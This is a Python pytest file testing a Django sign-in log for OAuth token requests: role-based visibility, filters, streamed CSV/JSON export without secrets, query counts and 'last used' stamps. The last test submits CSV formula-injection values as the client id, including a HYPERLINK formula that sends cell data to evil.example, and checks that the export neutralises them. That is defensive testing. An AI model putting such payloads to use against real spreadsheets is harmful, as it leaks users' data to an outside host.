"""The sign-in log (R20, R22): who sees which token requests, the filters, the streamed export that never holds a
secret, a page whose query count does not grow with the log, and "last used" on the registry pages."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from agents import registry
from governance.conditional_access import services as conditional_access
from governance.signin import signins
from governance.signin.models import AccessToken, SignIn
from tests.factories import UserFactory, agent_spec, grant_role

pytestmark = pytest.mark.django_db


# --- helpers -----------------------------------------------------------------------------------------------------
def _token_request(client, agent, secret: str | None = None, **data):
    """A real request to the token endpoint (form-encoded client credentials); returns (response, secret)."""
    if secret is None:
        _credential, secret = registry.credential_rotate(actor=None, agent=agent)
    response = client.post("/oauth/token/", {"grant_type": "client_credentials",
                                             "client_id": agent.identity.client_id, "client_secret": secret, **data})
    return response, secret


def _beta_agent(w):
    return registry.agent_create(actor=w.other, workspace=w.beta, spec=agent_spec(
        w.blueprint, "beta-agent", sponsors=[w.other], owners=[w.other_b])).agent


def _rows(agent, count: int = 1, **fields) -> list[SignIn]:
    """Sign-in rows as the token endpoint leaves them, in bulk."""
    values = {"agent": agent, "client_id": agent.identity.client_id if agent else "unknown-client",
              "actor_kind": "agent" if agent else "unknown", "outcome": "success", "ip": "10.0.0.1",
              "grant_type": "client_credentials", "requested_scopes": ["User.Read.All"],
              "granted_scopes": ["User.Read.All"], **fields}
    return SignIn.objects.bulk_create([SignIn(**values) for _ in range(count)])


def _shown(client, query: str = "") -> set[int]:
    """The ids of the sign-ins listed on the page (first page)."""
    response = client.get(f"/governance/sign-ins/{query}")
    assert response.status_code == 200, response.status_code
    return {row.pk for row in response.context["page"]}


def _export(client, fmt: str, query: str = ""):
    response = client.get(f"/governance/sign-ins/export/?{query}{'&' if query else ''}format={fmt}")
    assert response.status_code == 200, response.status_code
    assert response.streaming
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def reader(world):
    """A Security Reader with no workspace: reads every sign-in, may open no agent."""
    user = UserFactory(username="reader")
    grant_role(user, "security-reader")
    return user


# --- the log records real token requests -----------------------------------------------------------------------
def test_r22_a_token_request_appears_in_the_log_with_what_was_asked_and_granted(client, registry_world):
    w = registry_world
    response, secret = _token_request(client, w.agent, scope="User.Read.All")
    assert response.status_code == 200, response.content
    _token_request(client, w.agent, secret="wrong-secret")
    client.force_login(w.owner)
    page = client.get("/governance/sign-ins/")
    body = page.content.decode()
    assert page.status_code == 200
    assert {row.outcome for row in page.context["page"]} == {"success", "failure"}
    assert f'href="/agents/{w.agent.pk}/"' in body and w.agent.identity.client_id in body
    assert "invalid_client" in body and "User.Read.All" in body
    assert secret not in body and response.json()["access_token"] not in body


def test_r20_report_only_policies_are_listed_as_not_enforced(client, registry_world):
    w = registry_world
    conditional_access.policy_save(actor=None, data={"name": "Would block", "state": "report_only",
                                                     "grant": "block", "all_agents": True})
    response, _secret = _token_request(client, w.agent)
    assert response.status_code == 200
    client.force_login(w.ga)
    body = client.get("/governance/sign-ins/").content.decode()
    assert 'data-policy="Would block"' in body
    assert "report-only (not enforced)" in body


def test_the_empty_log_says_so(client, world):
    client.force_login(world.owner)
    body = client.get("/governance/sign-ins/").content.decode()
    assert "No sign-ins" in body and "will appear here" in body
    body = client.get("/governance/sign-ins/?outcome=blocked").content.decode()
    assert "Nothing matches these filters" in body


# --- who sees what -----------------------------------------------------------------------------------------------
def test_an_owner_sees_their_workspaces_agents_sign_ins_only(client, registry_world):
    w = registry_world
    alpha_rows = _rows(w.agent, 2)
    beta_rows = _rows(_beta_agent(w), 2)
    unknown = _rows(None, 1, outcome="failure", error="invalid_client")
    for user, expected in ((w.owner, alpha_rows), (w.owner_b, alpha_rows), (w.other, beta_rows)):
        client.force_login(user)
        assert _shown(client) == {row.pk for row in expected}, user
    assert unknown[0].pk not in {row.pk for row in signins.signins_visible_to(w.owner)}


def test_directory_readers_see_every_sign_in(client, registry_world, reader):
    w = registry_world
    every = {row.pk for row in _rows(w.agent, 2) + _rows(_beta_agent(w), 2) + _rows(None, 1, outcome="failure")}
    for user in (w.ga, w.inherited, reader):
        client.force_login(user)
        assert _shown(client) == every, user


def test_the_log_links_only_to_agents_the_viewer_may_open(client, registry_world, reader):
    w = registry_world
    _rows(w.agent)
    client.force_login(reader)  # reads the log, but is no member of alpha
    body = client.get("/governance/sign-ins/").content.decode()
    assert "matrix-agent" in body and f'href="/agents/{w.agent.pk}/"' not in body
    client.force_login(w.ga)
    assert f'href="/agents/{w.agent.pk}/"' in client.get("/governance/sign-ins/").content.decode()


def test_people_who_can_see_no_sign_in_get_403_and_strangers_sign_in_first(client, registry_world):
    w = registry_world
    _rows(w.agent)
    for url in ("/governance/sign-ins/", "/governance/sign-ins/export/?format=csv"):
        client.logout()
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
        client.force_login(w.contributor)
        assert client.get(url).status_code == 403
    assert not signins.signins_visible_to(w.contributor).exists()


# --- filters -----------------------------------------------------------------------------------------------------
@pytest.fixture
def filter_rows(registry_world):
    """Five distinct rows: which filter picks which."""
    w = registry_world
    beta = _beta_agent(w)
    long_ago = timezone.now() - timedelta(days=40)
    return {
        "plain": _rows(w.agent)[0],
        "beta": _rows(beta, ip="10.9.9.9")[0],
        "failed": _rows(w.agent, outcome="failure", error="invalid_client", granted_scopes=[])[0],
        "delegated": _rows(w.agent, actor_kind="on_behalf_of", subject=w.owner,
                           requested_scopes=["Mail.Send"], granted_scopes=["Mail.Send"])[0],
        "old": _rows(w.agent, at=long_ago, requested_scopes=["Policy.Read.All"], granted_scopes=[])[0],
    }


@pytest.mark.parametrize(("query", "expected"), [
    ("agent=beta-AGENT", {"beta"}),
    ("outcome=failure", {"failed"}),
    ("actor_kind=on_behalf_of", {"delegated"}),
    ("ip=10.9.9.9", {"beta"}),
    ("scope=mail.send", {"delegated"}),
    ("scope=Policy.Read&period=all", {"old"}),  # requested only, never granted; older than the last day
    ("outcome=success&scope=User.Read.All", {"plain", "beta"}),
    ("to={old}", {"old"}),
    ("from={today}", {"plain", "beta", "failed", "delegated"}),
    ("from={old}&to={old}", {"old"}),
])
def test_filters_pick_the_matching_sign_ins(client, registry_world, filter_rows, query, expected):
    old = filter_rows["old"].at.astimezone(timezone.get_current_timezone()).date()
    query = query.format(old=old.isoformat(), today=timezone.localdate().isoformat())
    client.force_login(registry_world.ga)
    assert _shown(client, f"?{query}") == {filter_rows[name].pk for name in expected}


def test_filtering_by_client_id(client, registry_world, filter_rows):
    client.force_login(registry_world.ga)
    beta_client_id = filter_rows["beta"].client_id
    assert _shown(client, f"?agent={beta_client_id[-8:]}") == {filter_rows["beta"].pk}


def test_an_invalid_filter_matches_nothing_and_says_why(client, registry_world, filter_rows):
    client.force_login(registry_world.ga)
    response = client.get("/governance/sign-ins/?from=2025-02-01&to=2025-01-01")
    assert not list(response.context["page"])
    assert "must be on or before" in response.content.decode()
    assert _shown(client, "?ip=not-an-ip") == set()


# --- export ------------------------------------------------------------------------------------------------------
def test_export_holds_the_filtered_rows_and_never_a_secret_or_token(client, registry_world):
    w = registry_world
    response, secret = _token_request(client, w.agent)
    access_token = response.json()["access_token"]
    token_hash = AccessToken.objects.get().token_hash
    _token_request(client, w.agent, secret="not-the-secret")
    _rows(_beta_agent(w), 3)
    client.force_login(w.owner)

    text = _export(client, "csv", "outcome=success")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["agent"], r["outcome"], r["granted_scopes"]) for r in rows] == [
        ("matrix-agent", "success", "User.Read.All")]
    assert tuple(rows[0]) == signins.EXPORT_COLUMNS

    items = json.loads(_export(client, "json"))
    assert [(i["agent"], i["outcome"]) for i in items] == [("matrix-agent", "success"),
                                                         ("matrix-agent", "failure")]
    assert items[1]["error"] == "invalid_client" and items[1]["granted_scopes"] == []

    client.force_login(w.ga)
    everything = _export(client, "csv") + _export(client, "json")
    assert everything.count("beta-agent") == 6
    for value in (secret, "not-the-secret", access_token, token_hash):
        assert value not in everything


def test_export_is_streamed_in_chunks(client, registry_world):
    w = registry_world
    _rows(w.agent, 30)
    client.force_login(w.ga)
    response = client.get("/governance/sign-ins/export/?format=json")
    assert response.streaming and response["Content-Disposition"].startswith('attachment; filename="sign-ins-')
    assert len(json.loads(b"".join(response.streaming_content))) == 30


# --- a constant number of queries --------------------------------------------------------------------------------
def test_the_log_page_runs_a_constant_number_of_queries(client, registry_world):
    w = registry_world
    beta = _beta_agent(w)
    subjects = [UserFactory(username=f"subject{i}") for i in range(5)]

    def add(count: int) -> None:
        for index in range(count):
            _rows((w.agent, beta)[index % 2], 1, actor_kind="on_behalf_of", subject=subjects[index % 5],
                  policies=[{"id": 1, "name": "P", "state": "report_only", "outcome": "block", "reason": "r"}])

    def count(user) -> int:
        client.force_login(user)
        client.get("/governance/sign-ins/")
        with CaptureQueriesContext(connection) as ctx:
            assert client.get("/governance/sign-ins/").status_code == 200
        return len(ctx.captured_queries)

    viewers = (w.owner, w.other, w.ga)
    add(5)
    small = {user.username: count(user) for user in viewers}
    add(195)
    assert SignIn.objects.count() == 200
    assert {user.username: count(user) for user in viewers} == small


# --- last used on the registry pages -----------------------------------------------------------------------------
def test_last_used_shows_on_the_agent_pages_after_a_real_token_request(client, registry_world):
    w = registry_world
    client.force_login(w.owner)
    detail = client.get(f"/agents/{w.agent.pk}/").content.decode()
    assert 'id="last-used" title="The last time it got a token">never' in detail
    _token_request(client, w.agent, secret="wrong")  # a failure is not a use
    assert "never" in client.get(f"/agents/{w.agent.pk}/").content.decode().split('id="last-used"')[1][:80]

    response, _secret = _token_request(client, w.agent)
    assert response.status_code == 200
    used_at = SignIn.objects.get(outcome="success").at
    stamp = timezone.localtime(used_at).strftime("%Y-%m-%d %H:%M")
    client.force_login(w.owner)
    detail = client.get(f"/agents/{w.agent.pk}/").content.decode()
    assert stamp in detail.split('id="last-used"')[1][:200]
    listing = client.get("/agents/").content.decode()
    assert stamp in listing.split('data-agent="matrix-agent"')[1].split("</tr>")[0]


def test_export_neutralises_values_an_unauthenticated_caller_chose(client, registry_world):
    """Anyone may send a client id and a grant type to the token endpoint; the log keeps them, and the CSV export
    must not hand them to a spreadsheet as formulas."""
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    for client_id, grant_type in ((hyperlink, "client_credentials"), ("@A1", "+1+1"), ("-2+3", "client_credentials")):
        response = client.post("/oauth/token/", {"grant_type": grant_type, "client_id": client_id,
                                                 "client_secret": "x"})
        assert response.status_code in (400, 401)
    client.force_login(registry_world.ga)
    rows = list(csv.DictReader(io.StringIO(_export(client, "csv"))))
    assert [(r["client_id"], r["grant_type"]) for r in rows] == [
        ("'" + hyperlink, "client_credentials"), ("'@A1", "'+1+1"), ("'-2+3", "client_credentials")]
